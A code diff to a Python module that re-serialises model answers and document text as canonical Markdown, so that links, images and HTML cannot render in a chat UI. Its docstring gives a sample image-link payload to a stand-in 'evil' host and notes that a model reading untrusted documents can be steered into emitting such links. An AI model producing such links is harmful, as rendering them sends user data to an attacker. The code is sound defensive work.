@@ -1,21 +1,55 @@
 """Text from documents, file names and the model, made safe to show as Markdown.
 
 Documents are untrusted, and so is the model once it has read them: `![x](https://evil/?q=...)`
-in a passage or an answer would make the browser fetch that URL the moment it is shown. Passages
-and names are shown as literal text; model answers keep their emphasis and lists, but images are
-never rendered, links are shown with their target as text, and HTML is shown as text. The page's
-Content-Security-Policy (`img-src 'self' data: blob:`) is the backstop (app/web/edge.py).
+in a passage or an answer would make the browser fetch that URL the moment it is shown, and
+`[click here](https://evil "x")` or a reference link would hide where a click goes. Passages and
+names are shown as literal text (`literal`). Model answers (`model_output`) are parsed with a
+CommonMark parser and written out again in a small canonical Markdown in which no link, image or
+HTML can form: every link, reference link, autolink and image becomes its label followed by its
+target as text, HTML is shown as text, and all other text is escaped. Only bare URLs stay
+clickable in the browser (GFM autolinks), and their text is their target. Code keeps its
+formatting and is never parsed as Markdown. The page's Content-Security-Policy
+(`img-src 'self' data: blob:`) is the backstop for images (app/web/edge.py).
+
+Why re-serialise instead of escaping the input: the browser renders with a different parser
+(marked, in Gradio's Chatbot) than any server-side check, and the forms a link can take
+(titles in three quotings, nested brackets, labels over several lines, reference definitions,
+entities) are too many to catch with patterns; the canonical output gives both parsers nothing
+to disagree about. Proven over the CommonMark and GFM specifications' examples in
+tests/test_safe_links.py.
 """
 
 from __future__ import annotations
 
 import re
+from collections.abc import Iterator
+
+from markdown_it import MarkdownIt
+from markdown_it.tree import SyntaxTreeNode
 
 # What gives inline text a meaning in (GitHub-flavoured) Markdown: emphasis, code, links and
 # images, tables, strike-through. HTML specials are turned into entities separately.
 _LITERAL = re.compile(r"([\\`*_\[\]!|~])")
-_INLINE_LINK = re.compile(r"!?\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
-_REFERENCE_DEF = re.compile(r"^( {0,3})\[([^\]\n]+)\]:", re.MULTILINE)
+
+# HTML is off: tags and comments stay text and are escaped with everything else.
+_PARSER = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
+
+# In running text: everything that can start a link, an image, code, emphasis, a table cell or
+# strike-through. `<`, `>` and `&` become entities (no HTML, no autolink, no entity).
+_TEXT_SPECIAL = re.compile(r"[\\`*_\[\]|~]")
+# Inside a bare URL, `_`, `*` and `~` are kept as they are so that the browser's autolink keeps
+# the address intact; brackets, backslashes, backticks and pipes are still escaped.
+_URL_SPECIAL = re.compile(r"[\\`\[\]|]")
+_BARE_URL = re.compile(r"(?:(?:https?|ftp)://|www\.)\S+", re.IGNORECASE)
+# What would start a block (heading, list, quote, setext underline) at the start of a line.
+_LINE_START = re.compile(r"^([ \t]*)([#+=-]|\d{1,9}(?=[.)]))", re.MULTILINE)
+# Text direction controls make a line display in another order than it reads (and a URL look
+# like another): dropped from answers.
+_BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
+_FENCE_INFO = re.compile(r"[A-Za-z0-9_+#.-]{1,32}")
+_BACKTICKS = re.compile(r"`+")
+# What makes a link, or changes an address, in text that a parser takes out of a code span.
+_LINK_MAKERS = re.compile(r"[\[\]<>]|&#?\w+;")
 
 
 def _html(text: str) -> str:
@@ -28,23 +62,187 @@ def literal(text: str) -> str:
 
 
 def model_output(text: str) -> str:
-    """An answer's Markdown without anything that loads or hides a URL."""
-    out: list[str] = []
-    pos = 0
-    for m in _INLINE_LINK.finditer(text):
-        out.append(_plain(text[pos : m.start()]))
-        label, target = m.group(1), m.group(2)
-        if not target:
-            out.append(literal(m.group(0)))
+    """An answer's Markdown with no link, image or HTML: each link's target is shown as text."""
+    text = _BIDI_CONTROLS.sub("", text)
+    tree = SyntaxTreeNode(_PARSER.parse(text))
+    return "\n".join(_blocks(tree.children)).strip("\n")
+
+
+# ---------------------------------------------------------------- blocks
+
+
+def _blocks(nodes: list[SyntaxTreeNode], tight: bool = False) -> list[str]:
+    """Lines of a sequence of blocks, a blank line between two blocks (none in a tight list)."""
+    lines: list[str] = []
+    previous = ""
+    for node in nodes:
+        block = _block(node, previous)
+        if lines and block and not tight:
+            lines.append("")
+        lines.extend(block)
+        previous = node.type
+    return lines
+
+
+def _block(node: SyntaxTreeNode, previous: str) -> list[str]:
+    kind = node.type
+    if kind == "paragraph":
+        return _inline_lines(node)
+    if kind == "heading":
+        content = _inline(node).replace("\n", " ").strip()
+        return [f"{'#' * int(node.tag[1])} {content}".rstrip()]
+    if kind in ("fence", "code_block"):
+        return _code_block(node.content, node.info if kind == "fence" else "")
+    if kind == "hr":
+        return ["___"]
+    if kind == "blockquote":
+        return [f"> {line}" if line else ">" for line in _blocks(node.children)]
+    if kind in ("bullet_list", "ordered_list"):
+        return _list(node, alternate=previous == kind)
+    if kind == "table":
+        return _table(node)
+    return [_escape(node.content)] if node.content else []  # html_block and the like: as text
+
+
+def _list(node: SyntaxTreeNode, alternate: bool) -> list[str]:
+    """A list with canonical markers; two lists in a row use different markers so that they stay
+    two lists."""
+    ordered = node.type == "ordered_list"
+    number = int(str(node.attrs.get("start", 1))) if ordered else 0
+    tight = all(p.hidden for item in node.children for p in item.children if p.type == "paragraph")
+    lines: list[str] = []
+    for item in node.children:
+        if ordered:
+            marker = f"{number}{')' if alternate else '.'} "
+            number += 1
         else:
-            out.append(f"{literal(label)} ({literal(target)})" if label else literal(target))
-        pos = m.end()
-    out.append(_plain(text[pos:]))
+            marker = "+ " if alternate else "- "
+        body = _blocks(item.children, tight=tight) or [""]
+        if lines and not tight:
+            lines.append("")
+        pad = " " * len(marker)
+        lines.append((marker + body[0]).rstrip())
+        lines.extend(pad + line if line else "" for line in body[1:])
+    return lines
+
+
+def _table(node: SyntaxTreeNode) -> list[str]:
+    rows: list[list[str]] = []
+    for section in node.children:
+        for row in section.children:
+            rows.append([_inline(cell).replace("\n", " ").strip() for cell in row.children])
+    if not rows:
+        return []
+    width = len(rows[0])
+    lines = ["| " + " | ".join(rows[0]) + " |", "|" + " --- |" * width]
+    lines.extend("| " + " | ".join((row + [""] * width)[:width]) + " |" for row in rows[1:])
+    return lines
+
+
+def _code_block(content: str, info: str) -> list[str]:
+    """A fenced block that nothing inside can close, with a plain language name (never
+    `mermaid`: Gradio would draw it as a diagram, and diagrams can hold links)."""
+    content = _break_latex(content)
+    runs = [len(r) for r in _BACKTICKS.findall(content)]
+    fence = "`" * max(3, max(runs, default=0) + 1)
+    words = info.split()
+    language = words[0] if words and _FENCE_INFO.fullmatch(words[0]) else ""
+    if language.lower().startswith("mermaid"):
+        language = ""
+    body = content[:-1] if content.endswith("\n") else content
+    return [fence + language, *(body.split("\n") if body else []), fence]
+
+
+def _break_latex(code: str) -> str:
+    """Gradio cuts `$$...$$` out of the whole message before parsing it as Markdown; a `$$` in
+    code could pair with one elsewhere and expose the code's raw text to the Markdown parser. A
+    word joiner (invisible) between two dollars keeps them from pairing."""
+    return code.replace("$$", "$\u2060$").replace("$$", "$\u2060$")
+
+
+# ---------------------------------------------------------------- inlines
+
+
+def _inline_lines(node: SyntaxTreeNode) -> list[str]:
+    return _inline(node).split("\n")
+
+
+def _inline(node: SyntaxTreeNode) -> str:
+    """A paragraph's, heading's or cell's inline content."""
+    parts = "".join(_inlines(node.children[0].children if node.children else []))
+    return _LINE_START.sub(_escape_line_start, parts)
+
+
+def _escape_line_start(m: re.Match[str]) -> str:
+    indent, mark = m.group(1), m.group(2)
+    return f"{indent}{mark}\\" if mark[0].isdigit() else f"{indent}\\{mark}"
+
+
+def _inlines(nodes: list[SyntaxTreeNode]) -> Iterator[str]:
+    for node in nodes:
+        kind = node.type
+        if kind == "text":
+            yield _escape(node.content)
+        elif kind == "softbreak":
+            yield "\n"
+        elif kind == "hardbreak":
+            yield "\\\n"
+        elif kind == "code_inline":
+            yield _code_span(node.content)
+        elif kind in ("em", "strong", "s"):
+            mark = {"em": "*", "strong": "**", "s": "~~"}[kind]
+            inner = "".join(_inlines(node.children))
+            yield f"{mark}{inner}{mark}" if inner.strip() else inner
+        elif kind == "link":
+            yield _shown_link("".join(_inlines(node.children)), _plain(node.children), str(node.attrs["href"]))
+        elif kind == "image":
+            yield _shown_link(_escape(_plain(node.children)), _plain(node.children), str(node.attrs["src"]))
+        else:  # html_inline and anything a later parser version adds: as text
+            yield _escape(node.content)
+
+
+def _shown_link(label: str, label_text: str, href: str) -> str:
+    """A link as text: its label and, in parentheses, where it goes (just the address when the
+    label is the address, as for an autolink)."""
+    target = _PARSER.normalizeLinkText(href)
+    if label_text in (target, href, f"mailto:{target}") or not label.strip():
+        return _escape(target)
+    return f"{label} ({_escape(target)})"
+
+
+def _plain(nodes: list[SyntaxTreeNode]) -> str:
+    """The visible text of inline nodes (an image's alt text, a link's label)."""
+    out: list[str] = []
+    for node in nodes:
+        if node.type in ("text", "code_inline"):
+            out.append(node.content)
+        elif node.type in ("softbreak", "hardbreak"):
+            out.append(" ")
+        else:
+            out.append(_plain(node.children))
     return "".join(out)
 
 
-def _plain(segment: str) -> str:
-    """Markdown outside links: HTML shown as text, no reference definitions, no image syntax."""
-    segment = _html(segment)
-    segment = _REFERENCE_DEF.sub(lambda m: f"{m.group(1)}\\[{m.group(2)}\\]:", segment)
-    return segment.replace("![", "!\\[")
+def _escape(text: str) -> str:
+    """Running text as literal Markdown; bare URLs keep the characters an address needs."""
+    out: list[str] = []
+    pos = 0
+    for m in _BARE_URL.finditer(text):
+        out.append(_TEXT_SPECIAL.sub(r"\\\g<0>", _html(text[pos : m.start()])))
+        out.append(_URL_SPECIAL.sub(r"\\\g<0>", _html(m.group(0))))
+        pos = m.end()
+    out.append(_TEXT_SPECIAL.sub(r"\\\g<0>", _html(text[pos:])))
+    return "".join(out)
+
+
+def _code_span(code: str) -> str:
+    """Inline code as a code span, unless it holds what could make a link: parsers disagree about
+    where a code span ends once strike-through or a bare URL runs into it (marked does), so such
+    code is shown as text between visible backticks instead."""
+    if _LINK_MAKERS.search(code):
+        return f"\\`{_escape(code)}\\`"
+    code = _break_latex(code)
+    runs = [len(r) for r in _BACKTICKS.findall(code)]
+    fence = "`" * (max(runs, default=0) + 1)
+    pad = " " if code.startswith(("`", " ")) or code.endswith(("`", " ")) else ""
+    return f"{fence}{pad}{code}{pad}{fence}"
